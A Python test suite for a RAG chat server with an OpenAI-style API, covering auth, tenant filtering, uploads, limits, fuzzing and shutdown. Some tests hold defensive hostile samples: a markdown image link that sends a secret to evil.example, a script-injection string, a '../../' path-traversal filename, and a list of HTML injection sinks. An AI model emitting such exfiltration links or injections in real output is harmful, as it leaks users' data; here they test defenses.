"""The HTTP service against a live uvicorn on loopback: the official `openai` client (stream and not), auth,
documents, limits, error shape, schema fuzzing, a small load test and graceful shutdown.

Fast layer: the tiny random Llama (real transformers code paths, gibberish answers, so rag mostly abstains)
and `FixedGenerator` below (a deterministic answer that cites the document, to check citations end to end).
One `real_model` test asks the bundled SmolLM2 through the openai client.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import openai
import pytest
from hypothesis import HealthCheck, settings

from ragft.server import create_app, serve_in_thread
from ragft.server.chat import pieces_of
from ragft.workspace import Workspace
from tests.fakes import FakeGenerator, HashEmbedder

REPO = Path(__file__).resolve().parents[1]
RETURNS = "# Returns\n\nItems can be returned within 30 days of delivery for a full refund.\n"
SALARIES = "# Salaries\n\nThe salary bands for engineers are confidential and reviewed every March.\n"
QUESTION = "How many days do I have to return items?"
FIXED_ANSWER = "Items can be returned within 30 days [1]."


def FixedGenerator(text: str = FIXED_ANSWER, gate: threading.Event | None = None) -> FakeGenerator:  # noqa: N802
    """The fake generator answering `text` (streamed word by word); `gate` can hold it."""
    return FakeGenerator(text, name="fixed", gate=gate)


def _docs(tmp_path: Path) -> Path:
    folder = tmp_path / "docs"
    folder.mkdir(exist_ok=True)
    (folder / "returns.md").write_text(RETURNS, encoding="utf-8")
    return folder


def _workspace(tmp_path: Path, generator=None, tiny_dir: Path | None = None, **server: object) -> Workspace:  # noqa: ANN001
    ws = Workspace(tmp_path / "ws", embedder=HashEmbedder(), generator=generator)
    if tiny_dir is not None:
        ws.settings.generator.model = str(tiny_dir)
    for key, value in server.items():
        setattr(ws.settings.server, key, value)
    ws.ingest([_docs(tmp_path)])
    return ws


def _audit(ws: Workspace) -> list[dict]:
    return [json.loads(line) for line in (ws.path / "audit.jsonl").read_text().splitlines()]


def _assert_error_shape(resp: httpx.Response, status: int) -> dict:
    assert resp.status_code == status, resp.text
    body = resp.json()
    assert set(body) == {"error"}
    assert isinstance(body["error"]["message"], str) and body["error"]["message"]
    assert isinstance(body["error"]["type"], str)
    assert "code" in body["error"]
    return body


# --------------------------------------------------------------------------- openai client, tiny model
def test_openai_client_non_streaming_tiny_model(tmp_path, tiny_model_dir):
    ws = _workspace(tmp_path, tiny_dir=tiny_model_dir)
    with serve_in_thread(create_app(ws)) as url:
        client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0, timeout=60)
        ids = [m.id for m in client.models.list().data]
        assert ids == ["base", "rag"]
        resp = client.chat.completions.create(model="rag", messages=[{"role": "user", "content": QUESTION}], max_tokens=8)
    assert resp.object == "chat.completion" and resp.model == "rag"
    assert isinstance(resp.choices[0].message.content, str) and resp.choices[0].message.content
    extra = resp.model_extra
    assert isinstance(extra["citations"], list) and isinstance(extra["abstained"], bool)
    assert resp.usage.prompt_tokens > 0  # the model really ran on a prompt with the retrieved chunk
    questions = [r for r in _audit(ws) if r["event"] == "question"]
    assert len(questions) == 1 and questions[0]["strategy"] == "rag" and questions[0]["chunk_ids"]


def test_openai_client_streaming_tiny_model(tmp_path, tiny_model_dir):
    ws = _workspace(tmp_path, tiny_dir=tiny_model_dir)
    with serve_in_thread(create_app(ws)) as url:
        client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0, timeout=60)
        chunks = list(client.chat.completions.create(
            model="base", messages=[{"role": "user", "content": QUESTION}], max_tokens=12, stream=True,
            stream_options={"include_usage": True},
        ))
    deltas = [c.choices[0].delta.content for c in chunks if c.choices and c.choices[0].delta.content]
    assert len(deltas) >= 2, "the answer must arrive in several pieces"
    finals = [c for c in chunks if c.choices and c.choices[0].finish_reason is not None]
    assert len(finals) == 1
    assert isinstance(finals[0].model_extra["answer"], str) and "citations" in finals[0].model_extra
    assert chunks[-1].usage is not None and chunks[-1].usage.completion_tokens > 0
    # a closed-book answer cut at max_tokens says so, as OpenAI's API does
    assert finals[0].choices[0].finish_reason == ("length" if chunks[-1].usage.completion_tokens >= 12 else "stop")


# --------------------------------------------------------------------------- citations end to end (fixed generator)
def test_citations_non_streaming_and_streaming(tmp_path):
    ws = _workspace(tmp_path, generator=FixedGenerator())
    with serve_in_thread(create_app(ws)) as url:
        client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0, timeout=30)
        resp = client.chat.completions.create(model="rag", messages=[
            {"role": "system", "content": "be brief"}, {"role": "user", "content": "ignored earlier question"},
            {"role": "assistant", "content": "..."}, {"role": "user", "content": QUESTION}])
        stream = list(client.chat.completions.create(model="rag", messages=[{"role": "user", "content": QUESTION}],
                                                     stream=True))
    assert resp.choices[0].message.content == FIXED_ANSWER
    cites = resp.model_extra["citations"]
    assert resp.model_extra["abstained"] is False
    assert cites[0]["n"] == 1 and "30 days" in cites[0]["text"] and cites[0]["doc_id"]
    text = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
    assert text == FIXED_ANSWER
    final = [c for c in stream if c.choices and c.choices[0].finish_reason == "stop"][0].model_extra
    assert final["citations"] == cites and final["answer"] == FIXED_ANSWER


def test_injected_markup_is_not_streamed_live(tmp_path):
    evil = "See ![x](https://evil.example/?q=secret) and <script>alert(1)</script> 30 days [1]."
    ws = _workspace(tmp_path, generator=FixedGenerator(evil))
    with serve_in_thread(create_app(ws)) as url:
        r = httpx.post(url + "/v1/chat/completions", json={"model": "base", "stream": True,
                                                          "messages": [{"role": "user", "content": QUESTION}]}, timeout=30)
    streamed = "".join(json.loads(line[6:])["choices"][0]["delta"].get("content", "")
                       for line in r.text.splitlines() if line.startswith("data: {") and '"choices": [{' in line)
    assert "evil.example" not in streamed and "<script" not in streamed
    assert "image removed" in streamed and "30 days" in streamed


def test_stream_pieces_concatenate_to_the_text():
    for text in ["Items can be returned within 30 days [1].", "  two  spaces\nand a line ", "", "x"]:
        assert "".join(pieces_of(text)) == text


# --------------------------------------------------------------------------- auth
def test_auth_missing_wrong_revoked_get_the_same_401(tmp_path):
    ws = _workspace(tmp_path, generator=FixedGenerator())
    alice = ws.users.add("alice", ["support"]).api_key
    bob = ws.users.add("bob", ["support"]).api_key
    ws.users.revoke("bob")
    with serve_in_thread(create_app(ws)) as url:
        bodies = []
        for headers in ({}, {"Authorization": "Bearer rgft_wrong"}, {"Authorization": f"Bearer {bob}"},
                        {"Authorization": alice}):  # last: not a Bearer header
            r = httpx.get(url + "/v1/models", headers=headers)
            bodies.append(_assert_error_shape(r, 401))
            assert r.headers["www-authenticate"].startswith("Bearer")
        assert all(b == bodies[0] for b in bodies)
        with pytest.raises(openai.AuthenticationError):
            openai.OpenAI(base_url=url + "/v1", api_key="rgft_wrong", max_retries=0).models.list()
        ok = openai.OpenAI(base_url=url + "/v1", api_key=alice, max_retries=0, timeout=30)
        assert [m.id for m in ok.models.list().data] == ["base", "rag"]
        ok.chat.completions.create(model="rag", messages=[{"role": "user", "content": QUESTION}])
        assert httpx.get(url + "/healthz").json() == {"status": "ok", "auth": True, "queue": 0}
    questions = [r for r in _audit(ws) if r["event"] == "question"]
    assert questions[-1]["principal"] == "alice"


def test_groups_filter_retrieval_documents_and_uploads(tmp_path):
    ws = _workspace(tmp_path, generator=FixedGenerator())
    hr_dir = tmp_path / "hr"
    hr_dir.mkdir()
    (hr_dir / "salaries.md").write_text(SALARIES, encoding="utf-8")
    ws.ingest([hr_dir], groups=["hr"])
    hr_id = [d.doc_id for d in ws.store.list_documents() if d.groups][0]
    alice = {"Authorization": "Bearer " + ws.users.add("alice", ["support"]).api_key}
    carol = {"Authorization": "Bearer " + ws.users.add("carol", ["hr"]).api_key}
    with serve_in_thread(create_app(ws)) as url:
        # The tenant comes from the key, never from the body: a smuggled "groups"/"user" field changes nothing.
        body = {"query": "salary bands engineers confidential", "k": 5, "groups": ["hr"], "user": "carol"}
        hits = httpx.post(url + "/v1/search", json=body, headers=alice).json()["hits"]
        assert all(h["doc_id"] != hr_id for h in hits)
        assert hr_id in [h["doc_id"] for h in httpx.post(url + "/v1/search", json=body, headers=carol).json()["hits"]]
        listed = [d["doc_id"] for d in httpx.get(url + "/v1/documents", headers=alice).json()["data"]]
        assert hr_id not in listed and len(listed) == 1
        _assert_error_shape(httpx.delete(url + f"/v1/documents/{hr_id}", headers=alice), 404)
        r = httpx.post(url + "/v1/documents", headers=alice, data={"groups": "hr"},
                       files={"file": ("x.md", b"# X\n\nplanted text\n", "text/markdown")})
        _assert_error_shape(r, 403)
    assert ws.store.get_document(hr_id) is not None
    searches = [r for r in _audit(ws) if r["event"] == "search"]
    assert [s["principal"] for s in searches] == ["alice", "carol"]


# --------------------------------------------------------------------------- documents through HTTP
def test_upload_search_delete_through_http(tmp_path):
    ws = _workspace(tmp_path, generator=FixedGenerator())
    canary = "zebracorn"
    with serve_in_thread(create_app(ws)) as url:
        files = [("file", ("warranty.md", f"# Warranty\n\nThe {canary} kettle has a two year warranty.\n".encode(), "text/markdown")),
                 ("file", ("../../evil name.txt", b"Shipping takes three business days.\n", "text/plain"))]
        r = httpx.post(url + "/v1/documents", files=files, data={"groups": "", "subject": "cust-7"}, timeout=60)
        assert r.status_code == 200, r.text
        report = r.json()
        assert report["added"] == 2 and report["failed"] == [] and report["chunks"] >= 2 and len(report["doc_ids"]) == 2
        again = httpx.post(url + "/v1/documents", files=files[:1], timeout=60).json()
        assert again["unchanged"] == 1 or again["updated"] == 1  # same user + name -> same document, no duplicate
        docs = httpx.get(url + "/v1/documents").json()["data"]
        assert len(docs) == 3
        shown = {d["source"] for d in docs if d["doc_id"] in report["doc_ids"]}
        assert shown == {"warranty.md", "evil_name.txt"}  # never the server's absolute staging path
        assert not list((ws.path / "uploads").rglob("*.*")), "staged upload copies must be deleted after ingest"
        hits = httpx.post(url + "/v1/search", json={"query": f"{canary} warranty", "k": 3}).json()["hits"]
        target = hits[0]["doc_id"]
        assert canary in hits[0]["text"]
        deleted = httpx.delete(url + f"/v1/documents/{target}").json()
        assert deleted["documents"] == 1 and deleted["chunks"] >= 1
        hits = httpx.post(url + "/v1/search", json={"query": f"{canary} warranty", "k": 3}).json()["hits"]
        assert all(canary not in h["text"] for h in hits)
        _assert_error_shape(httpx.delete(url + f"/v1/documents/{target}"), 404)


# --------------------------------------------------------------------------- limits and errors
def test_limits_413_429_top_k_max_tokens(tmp_path):
    ws = _workspace(tmp_path, generator=FixedGenerator(), max_request_bytes=2048, rate_limit_per_minute=6,
                    max_top_k=3, max_tokens=32)
    with serve_in_thread(create_app(ws)) as url:
        c = httpx.Client(base_url=url, timeout=30)
        _assert_error_shape(c.post("/v1/documents", files={"file": ("big.txt", b"x" * 5000, "text/plain")}), 413)
        # Chunked body without Content-Length: counted while streaming in.
        chunked = c.post("/v1/search", content=iter([b'{"query": "', b"a" * 3000, b'"}']),
                         headers={"Content-Type": "application/json"})
        _assert_error_shape(chunked, 413)
        _assert_error_shape(c.post("/v1/search", json={"query": "returns", "k": 4}), 400)
        msg = {"model": "rag", "messages": [{"role": "user", "content": QUESTION}]}
        _assert_error_shape(c.post("/v1/chat/completions", json={**msg, "max_tokens": 33}), 400)
        assert c.post("/v1/chat/completions", json={**msg, "max_tokens": 32}).status_code == 200
        statuses = [c.get("/v1/models").status_code for _ in range(6)]
        assert 429 in statuses
        r = c.get("/v1/models")
        body = _assert_error_shape(r, 429)
        assert body["error"]["type"] == "rate_limit_error" and int(r.headers["retry-after"]) >= 1
        assert c.get("/healthz").status_code == 200  # not rate limited


def test_queue_full_gives_503_and_queued_work_finishes(tmp_path):
    gate = threading.Event()
    ws = _workspace(tmp_path, generator=FixedGenerator(gate=gate), max_queue=2)
    msg = {"model": "base", "messages": [{"role": "user", "content": QUESTION}]}
    with serve_in_thread(create_app(ws)) as url:
        results: list[int] = []
        workers = [threading.Thread(target=lambda: results.append(httpx.post(url + "/v1/chat/completions", json=msg,
                                                                             timeout=60).status_code)) for _ in range(2)]
        for t in workers:
            t.start()
        deadline = time.monotonic() + 20
        while httpx.get(url + "/healthz").json()["queue"] < 2:
            assert time.monotonic() < deadline, "requests never reached the queue"
            time.sleep(0.05)
        r = httpx.post(url + "/v1/chat/completions", json=msg, timeout=30)
        body = _assert_error_shape(r, 503)
        assert body["error"]["code"] == "queue_full" and r.headers["retry-after"] == "1"
        gate.set()
        for t in workers:
            t.join(30)
    assert results == [200, 200]


def test_error_shape_everywhere(tmp_path):
    ws = _workspace(tmp_path, generator=FixedGenerator())
    with serve_in_thread(create_app(ws)) as url:
        c = httpx.Client(base_url=url, timeout=30)
        _assert_error_shape(c.get("/v1/nothing"), 404)
        _assert_error_shape(c.put("/v1/models"), 405)
        _assert_error_shape(c.post("/v1/chat/completions", content=b"{not json", headers={"Content-Type": "application/json"}), 400)
        _assert_error_shape(c.post("/v1/chat/completions", json={"model": "rag", "messages": []}), 400)
        no_user = {"model": "rag", "messages": [{"role": "system", "content": "hi"}]}
        _assert_error_shape(c.post("/v1/chat/completions", json=no_user), 400)
        body = _assert_error_shape(c.post("/v1/chat/completions", json={"model": "ft:nope", "messages": [
            {"role": "user", "content": "q"}]}), 404)
        assert body["error"]["code"] == "model_not_found" and "base, rag" in body["error"]["message"]
        _assert_error_shape(c.get("/v1/report"), 404)
        assert c.get("/openapi.json").json()["paths"]["/v1/chat/completions"]


def test_report_latest_and_one_time_link(tmp_path):
    ws = _workspace(tmp_path, generator=FixedGenerator())
    report = tmp_path / "out"
    report.mkdir()
    (report / "index.html").write_text("<html><body><h1>ragft compare</h1></body></html>", encoding="utf-8")
    (ws.path / "last_report").write_text(str(report), encoding="utf-8")  # what Workspace.compare(report=...) writes
    (report / "access.json").write_text('{"groups": [], "documents": 1}', encoding="utf-8")  # built on public docs only
    key = {"Authorization": "Bearer " + ws.users.add("alice").api_key}
    with serve_in_thread(create_app(ws)) as url:
        r = httpx.get(url + "/v1/report", headers=key)
        assert r.status_code == 200 and "ragft compare" in r.text and "default-src 'none'" in r.headers["content-security-policy"]
        _assert_error_shape(httpx.get(url + "/v1/report"), 401)
        ticket = httpx.post(url + "/v1/report/ticket", headers=key).json()
        assert httpx.get(f"{url}/{ticket['url']}").status_code == 200
        _assert_error_shape(httpx.get(f"{url}/{ticket['url']}"), 404)  # single use


def test_web_ui_is_served_without_external_urls(tmp_path):
    ws = _workspace(tmp_path, generator=FixedGenerator())
    with serve_in_thread(create_app(ws)) as url:
        page = httpx.get(url + "/")
        assert page.status_code == 200 and "script-src 'self'" in page.headers["content-security-policy"]
        js = httpx.get(url + "/static/app.js").text
    for sink in (".innerHTML", ".outerHTML", "insertAdjacentHTML", "document.write", "eval("):
        assert sink not in js, f"{sink} would let model output become markup"
    assert "http://" not in js + page.text and "https://" not in js + page.text


# --------------------------------------------------------------------------- fuzzing and load
def test_schema_fuzzing_finds_no_server_errors(tmp_path):
    """schemathesis generates requests from /openapi.json for every operation (20 examples each, bounded):
    none may answer 5xx, and every error must be the OpenAI error shape."""
    import schemathesis
    from hypothesis import given

    ws = _workspace(tmp_path, generator=FixedGenerator(), rate_limit_per_minute=100_000)
    schema = schemathesis.openapi.from_asgi("/openapi.json", create_app(ws))
    operations = [result.ok() for result in schema.get_all_operations()]
    assert len(operations) >= 8
    seen: dict[str, set[int]] = {}
    for operation in operations:
        @given(case=operation.as_strategy())
        @settings(max_examples=20, deadline=None, suppress_health_check=list(HealthCheck), database=None)
        def check(case) -> None:  # noqa: ANN001
            response = case.call()
            seen.setdefault(f"{case.method} {case.path}", set()).add(response.status_code)
            assert response.status_code < 500, f"{case.method} {case.formatted_path} -> {response.status_code}: {response.text[:300]}"
            if response.status_code >= 400:
                assert set(response.json()) == {"error"}, response.text[:300]

        check()
    assert any(200 in codes for codes in seen.values()), seen  # the fuzzer got past validation somewhere


def test_small_load_10_clients_x_2_requests(tmp_path, tiny_model_dir):
    from benchmarks.server_load import run_load

    ws = _workspace(tmp_path, tiny_dir=tiny_model_dir, rate_limit_per_minute=1000)
    with serve_in_thread(create_app(ws)) as url:
        result = run_load(url, clients=10, requests_per_client=2, max_tokens=4)
    assert result["errors"] == 0 and result["requests"] == 20
    assert 0 < result["p50_ms"] <= result["p95_ms"]


def test_serve_in_thread_answers_without_waiting_for_delayed_acks():
    """Each connection `serve_in_thread` accepts has Nagle's algorithm off (TCP_NODELAY), as `ragft serve`'s do:
    with it on, a response's second write waited for the client's delayed ACK, ~40 ms per request on loopback
    (asyncio sets TCP_NODELAY only when the listening socket names IPPROTO_TCP)."""
    import asyncio.selector_events
    import gc

    from starlette.applications import Starlette
    from starlette.responses import PlainTextResponse
    from starlette.routing import Route

    async def hello(_request):  # type: ignore[no-untyped-def]
        return PlainTextResponse("ok")

    with serve_in_thread(Starlette(routes=[Route("/", hello)])) as url, httpx.Client() as client:
        assert client.get(url + "/").text == "ok"
        port = int(url.rsplit(":", 1)[1])
        # open sockets only: a transport an earlier test's server left unclosed can still name this port (ports
        # are reused) while its socket is closed (fd -1), which failed this test in a full-suite run
        accepted = [t for t in gc.get_objects() if isinstance(t, asyncio.selector_events._SelectorSocketTransport)
                    and not t.is_closing() and t.get_extra_info("socket").fileno() != -1
                    and t.get_extra_info("sockname")[1] == port]
        assert accepted
        assert all(t.get_extra_info("socket").getsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY) for t in accepted)


# --------------------------------------------------------------------------- graceful shutdown (real CLI process)
def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_serve_loads_the_models_in_the_background_as_it_starts(tmp_path, tiny_model_dir, monkeypatch):
    """`ragft serve` starts `warm_up` beside uvicorn: the generator's weights and the embedder are loaded with no
    request (the first chat request would otherwise pay the imports and the load)."""
    from typer.testing import CliRunner

    import ragft.cli as cli
    from ragft.models.bundled import TransformersGenerator

    gen = TransformersGenerator(str(tiny_model_dir), context_window=512, dtype="float32")
    emb = HashEmbedder()
    ws = Workspace(tmp_path / "served", embedder=emb, generator=gen)
    served: list[object] = []
    embedded: list[list[str]] = []
    embed = emb.embed
    monkeypatch.setattr(emb, "embed", lambda texts: (embedded.append(list(texts)), embed(texts))[1])
    monkeypatch.setattr(cli, "open_workspace", lambda path: ws)
    monkeypatch.setattr("uvicorn.run", lambda app, **kw: served.append(app))  # no server: only what serve starts
    res = CliRunner().invoke(cli.app, ["serve", "--json"])
    assert res.exit_code == 0, res.output
    assert served, "uvicorn.run was not reached"
    for t in [t for t in threading.enumerate() if t.name == "ragft-warm-up"]:
        t.join(timeout=120)
    assert gen._model is not None and embedded  # both loaded without any request
    ws.close()


def test_warm_up_failures_are_logged_not_raised(tmp_path, caplog):
    from ragft.server.app import warm_up

    class Broken(FakeGenerator):
        def warm_up(self) -> None:
            raise RuntimeError("no weights here")

    class Warmed(FakeGenerator):
        loaded = False

        def warm_up(self) -> None:
            self.loaded = True

    class NoEmbedder(HashEmbedder):
        def embed(self, texts):  # type: ignore[no-untyped-def]
            raise OSError("embedder folder missing")

    ws = Workspace(tmp_path / "ws", embedder=HashEmbedder(), generator=Broken("x"))
    with caplog.at_level("WARNING", logger="ragft.server.app"):
        warm_up(ws)
    assert "the generator did not load: RuntimeError: no weights here" in caplog.text
    ws.close()
    gen = Warmed("x")  # an embedder that fails does not keep the generator from loading
    ws = Workspace(tmp_path / "ws2", embedder=NoEmbedder(), generator=gen)
    with caplog.at_level("WARNING", logger="ragft.server.app"):
        warm_up(ws)
    assert "the embedder did not load: OSError: embedder folder missing" in caplog.text and gen.loaded
    ws.close()


def test_sigterm_finishes_the_in_flight_stream(tmp_path, tiny_model_dir):
    ws_dir = tmp_path / "served"
    ws = Workspace(ws_dir)
    ws.settings.generator.model = str(tiny_model_dir)
    from ragft.config import save_settings

    save_settings(ws_dir, ws.settings)
    port = _free_port()
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "PYTHONPATH": str(REPO)}
    proc = subprocess.Popen([sys.executable, "-m", "ragft.cli", "serve", "-w", str(ws_dir), "--port", str(port), "--json"],
                            cwd=REPO, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        url = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 90
        while True:
            assert proc.poll() is None, proc.stderr.read()
            try:
                if httpx.get(url + "/healthz", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            assert time.monotonic() < deadline, "server did not start"
            time.sleep(0.2)
        msg = {"model": "base", "stream": True, "max_tokens": 48, "messages": [{"role": "user", "content": QUESTION}]}
        with httpx.stream("POST", url + "/v1/chat/completions", json=msg, timeout=60) as r:
            lines = r.iter_lines()
            first = next(lines)
            assert first.startswith("data: ")
            proc.send_signal(signal.SIGTERM)  # mid-answer
            rest = list(lines)
        # the answer was finished, not dropped: its last chunk has a finish_reason ("length": 48 tokens were generated)
        assert "data: [DONE]" in rest and any('"finish_reason": "stop"' in line or '"finish_reason": "length"' in line
                                              for line in rest)
        # uvicorn re-raises the captured SIGTERM after a clean shutdown, so the process ends "by" the signal.
        assert proc.wait(timeout=60) in (0, -signal.SIGTERM)
        audited = (ws_dir / "audit.jsonl").read_text()
        assert '"event":"question"' in audited  # the in-flight answer completed and was recorded
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)


# --------------------------------------------------------------------------- the real bundled models
KETTLE = "# Kettle\n\nThe Zephyr kettle was designed by Marta Olsen in Oslo.\n"
KETTLE_QUESTION = "Who designed the Zephyr kettle?"


@pytest.mark.real_model
def test_real_model_answers_through_openai_client(tmp_path, real_embedder, real_generator):
    docs = _docs(tmp_path)
    (docs / "kettle.md").write_text(KETTLE, encoding="utf-8")
    ws = Workspace(tmp_path / "real", embedder=real_embedder, generator=real_generator)
    ws.ingest([docs])
    with serve_in_thread(create_app(ws)) as url:
        client = openai.OpenAI(base_url=url + "/v1", api_key="unused", max_retries=0, timeout=300)
        resp = client.chat.completions.create(model="rag", messages=[{"role": "user", "content": KETTLE_QUESTION}],
                                              max_tokens=24)
    extra = resp.model_extra
    assert resp.usage.prompt_tokens > 0 and extra["abstained"] is False, resp.choices[0].message.content
    assert "Marta Olsen" in resp.choices[0].message.content
    assert extra["citations"] and "Marta Olsen" in extra["citations"][0]["text"]


def test_concurrent_requests_share_a_batch_and_get_their_own_answers(tmp_path, tiny_model_dir):
    """Requests that arrive while the model is busy are generated as one batch (models/batcher.py), and each
    client gets the answer its own question gets alone."""
    from ragft.server.chat import answer_text

    ws = _workspace(tmp_path, tiny_dir=tiny_model_dir)
    gen = ws.generator  # may be shared with earlier tests (the registry caches loaded generators)
    before = len(gen._coalescer.batch_sizes)
    questions = [QUESTION, "Who reviews the salary bands?", "What is a refund?", "When is delivery?"]
    with serve_in_thread(create_app(ws)) as url:
        replies: dict[str, str] = {}

        def post(q: str) -> None:
            r = httpx.post(url + "/v1/chat/completions", timeout=120,
                           json={"model": "base", "max_tokens": 8, "messages": [{"role": "user", "content": q}]})
            replies[q] = r.json()["choices"][0]["message"]["content"]

        with gen._gen_lock:  # the model is busy: the requests pile up in the batcher
            clients = [threading.Thread(target=post, args=(q,)) for q in questions]
            for t in clients:
                t.start()
            deadline = time.monotonic() + 60
            while gen._coalescer.queued < len(questions):  # all waiting, or gathered into the held batch
                assert time.monotonic() < deadline, "requests never reached the generator"
                time.sleep(0.02)
        for t in clients:
            t.join(120)
    sizes = gen._coalescer.batch_sizes[before:]
    assert max(sizes) >= 2 and sum(sizes) == len(questions)
    alone = {q: answer_text(ws.ask(q, "base", max_tokens=8)) for q in questions}
    assert replies == alone
    assert len(set(alone.values())) > 1  # different questions, different answers: no mix-up possible unseen


def test_each_app_marks_its_jobs_on_its_own_generator_built_at_the_first_job(tmp_path, tiny_model_dir):
    """Two servers in one process: a job of one is counted by its generator's batcher only (models/batcher.py);
    creating the app builds no generator (models load on the first request)."""
    from ragft.models.bundled import TransformersGenerator

    ws = _workspace(tmp_path, tiny_dir=tiny_model_dir)
    other_gen = TransformersGenerator(str(tiny_model_dir))  # another generator (cheap constructor, no weights)
    other = _workspace(tmp_path / "other", generator=other_gen)
    app, other_app = create_app(ws), create_app(other)
    assert ws._generator is None  # building the app built no generator

    def counts() -> tuple[int, int]:  # while this job runs (retrieving, say)
        return ws.generator.arrivals.count, other_gen.arrivals.count

    assert app.state.queue.submit(counts).result(60) == (1, 0)
    assert ws.generator is not other_gen and ws.generator.arrivals.count == 0  # dropped when the job ended
    assert other_app.state.queue.submit(counts).result(60) == (0, 1)
    fake = _workspace(tmp_path / "fake", generator=FakeGenerator(lambda msgs: "x"))
    assert create_app(fake).state.queue.submit(counts).result(60) == (0, 0)  # a generator that does not batch
    for a in (app, other_app):
        a.state.queue.shutdown()
    ws.close(), other.close(), fake.close()


def test_ft_and_hybrid_are_served_exactly_when_an_adapter_is_and_refused_alike_streamed_or_not(tmp_path):
    """`model: "hybrid"` without a RAFT adapter got 400 plain but 200 and an error inside the stream when
    streamed; and /v1/models left out "ft"/"hybrid" while accepting them."""
    from ragft.finetune.registry import AdapterInfo

    ws = _workspace(tmp_path, generator=FixedGenerator())
    with serve_in_thread(create_app(ws)) as url:
        assert [m["id"] for m in httpx.get(url + "/v1/models").json()["data"]] == ["base", "rag"]
        for stream in (False, True):
            r = httpx.post(url + "/v1/chat/completions", timeout=30,
                           json={"model": "hybrid", "stream": stream, "messages": [{"role": "user", "content": QUESTION}]})
            body = _assert_error_shape(r, 400)
            assert body["error"]["code"] == "adapter_missing" and "has no raft adapter" in body["error"]["message"]
        ws.registry.register(AdapterInfo(name="ft1", path=str(tmp_path / "ft1"), kind="ft", base_model="fixed"))
        ids = [m["id"] for m in httpx.get(url + "/v1/models").json()["data"]]
        assert ids == ["base", "rag", "ft", "ft:ft1"]  # "ft" alone is the newest ft adapter, now that one exists


def test_finish_reason_says_length_when_a_closed_book_answer_hit_the_token_limit(tmp_path):
    """OpenAI clients read finish_reason "length" as "cut off"; it was always "stop"."""
    ws = _workspace(tmp_path, generator=FixedGenerator("one two three four five six"))
    with serve_in_thread(create_app(ws)) as url:
        def finish(model: str, max_tokens: int, stream: bool = False) -> str:
            req = {"model": model, "max_tokens": max_tokens, "stream": stream,
                   "messages": [{"role": "user", "content": QUESTION}]}
            r = httpx.post(url + "/v1/chat/completions", json=req, timeout=30)
            assert r.status_code == 200, r.text
            if not stream:
                return r.json()["choices"][0]["finish_reason"]
            chunks = [json.loads(line[6:]) for line in r.text.splitlines() if line.startswith("data: {")]
            return [c["choices"][0]["finish_reason"] for c in chunks if c["choices"][0]["finish_reason"]][0]

        assert finish("base", 3) == "length" and finish("base", 3, stream=True) == "length"
        assert finish("base", 32) == "stop"  # six words under a 32-token cap: it ended on its own
        assert finish("rag", 3) == "stop"  # a checked rag answer is never a cut generation


def test_an_upload_of_which_nothing_is_stored_is_422_with_the_report(tmp_path):
    """Uploading only a bad PDF, an empty file or an .exe returned 200 with `added: 0`: a client that checks the
    status saw success. Now 422 with the error body, the report in it; a batch with one good file stays 200."""
    ws = _workspace(tmp_path, generator=FixedGenerator())
    with serve_in_thread(create_app(ws)) as url:
        bad = [("file", ("bad.pdf", b"%PDF-1.4 not really", "application/pdf")),
               ("file", ("empty.txt", b"", "text/plain")), ("file", ("x.exe", b"MZ\x90\x00", "application/octet-stream"))]
        r = httpx.post(url + "/v1/documents", files=bad, timeout=60)
        body = _assert_error_shape(r, 422)  # the error body every non-2xx response has
        assert body["error"]["code"] == "nothing_stored" and "bad.pdf" in body["error"]["message"]
        report = body["error"]["report"]
        assert report["added"] == 0 and report["doc_ids"] == []
        assert {f["path"] for f in report["failed"] + report["skipped"]} == {"bad.pdf", "empty.txt", "x.exe"}
        good = [("file", ("note.md", b"# Note\n\nThe depot opens at seven.\n", "text/markdown")), bad[1]]
        r = httpx.post(url + "/v1/documents", files=good, timeout=60)
        assert r.status_code == 200 and r.json()["added"] == 1 and len(r.json()["failed"]) == 1, r.text


def test_malformed_requests_are_told_what_is_wrong_in_words(tmp_path):
    """Bad JSON read "invalid request: 27: JSON decode error", a form body "body: Input should be a valid
    dictionary", and routing errors had the codes "404"/"405" where every other error has a name."""
    ws = _workspace(tmp_path, generator=FixedGenerator())
    with serve_in_thread(create_app(ws)) as url:
        r = httpx.post(url + "/v1/chat/completions", content=b'{"model": "rag", "messages": [',
                       headers={"content-type": "application/json"})
        assert "the body is not valid JSON" in _assert_error_shape(r, 400)["error"]["message"]
        r = httpx.post(url + "/v1/chat/completions", content=b"model=rag")
        assert "Content-Type: application/json" in _assert_error_shape(r, 400)["error"]["message"]
        assert _assert_error_shape(httpx.get(url + "/nope"), 404)["error"]["code"] == "no_route"
        assert _assert_error_shape(httpx.put(url + "/v1/models"), 405)["error"]["code"] == "method_not_allowed"
